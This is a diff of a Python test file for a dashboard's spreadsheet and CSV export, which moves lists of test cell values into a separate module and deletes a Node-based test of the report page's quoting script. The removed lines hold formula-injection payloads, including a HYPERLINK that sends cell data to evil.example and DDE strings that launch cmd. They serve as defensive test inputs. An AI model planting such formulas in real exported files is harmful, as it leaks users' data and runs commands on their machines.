@@ -1,12 +1,9 @@
 """Tables in spreadsheets: text is text, numbers are numbers, and everything comes back."""
 
 import csv as csv_files
-import shutil
-import subprocess
 from base64 import b64decode
 from datetime import date
 from io import BytesIO, StringIO
-from pathlib import Path
 
 import openpyxl
 import pandas as pd
@@ -14,6 +11,7 @@ import plotly.graph_objects as go
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from odd_cells import FORMULAS, HARMLESS
 
 from sim.view.dashboard.downloads import file_of
 from sim.view.figures.files import made_by, read_figures, write_figures
@@ -21,13 +19,6 @@ from sim.view.figures.picture import Picture
 from sim.view.spreadsheets import csv, csv_download, from_csv
 from sim.view.tables import rows
 
-SCRIPT = Path(__file__).parents[2] / "sim" / "view" / "report" / "report.js"
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A2,"Check")',
-    "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "=1+2",
-    "\t=1", "\r=1", " =1+1", "\n@A1", "\uff1d1+1", "'=1", "''+A1", "--x", "-",
-]  # fmt: skip
-HARMLESS = ["Zürich", "-5", "+3.5", "-1,234.5", "-12%", "a=b", "2024-01-01", "'quoted'", "", "e@mail", "1e-3", "-1e-3"]
 ERRORS = ["#N/A", "#REF!", "#DIV/0!"]
 
 
@@ -114,20 +105,6 @@ def test_what_is_written_can_be_read(words):
     assert from_csv(read)["a"].tolist() == [*words, "x"]
     for text in read["a"]:
         assert text.lstrip()[:1] not in {"=", "@"}
-
-
-@pytest.mark.skipif(shutil.which("node") is None, reason="no node here")
-def test_the_page_of_a_report_writes_the_same(tmp_path):
-    """The script of a report's page writes the same cells as the dashboard."""
-    words = [*FORMULAS, *HARMLESS]
-    code = SCRIPT.read_text("utf-8")
-    part = code[code.index("  const FORMULA") : code.index("  function download")]
-    script = tmp_path / "cells.js"
-    script.write_text(f"{part}\nconsole.log([{', '.join(map(ascii, words))}].map(quoted).join('\\r\\n'));", "utf-8")
-    out = subprocess.run(["node", script], capture_output=True, check=True, encoding="utf-8", timeout=60).stdout
-    cells = [line[0] if line else "" for line in csv_files.reader(StringIO(out, newline=""))]
-    expected = csv_files.reader(StringIO(csv(pd.DataFrame({"a": words, "b": "x"})), newline=""))
-    assert cells == [line[0] for line in expected][1:]
 
 
 def test_dashes_stay():
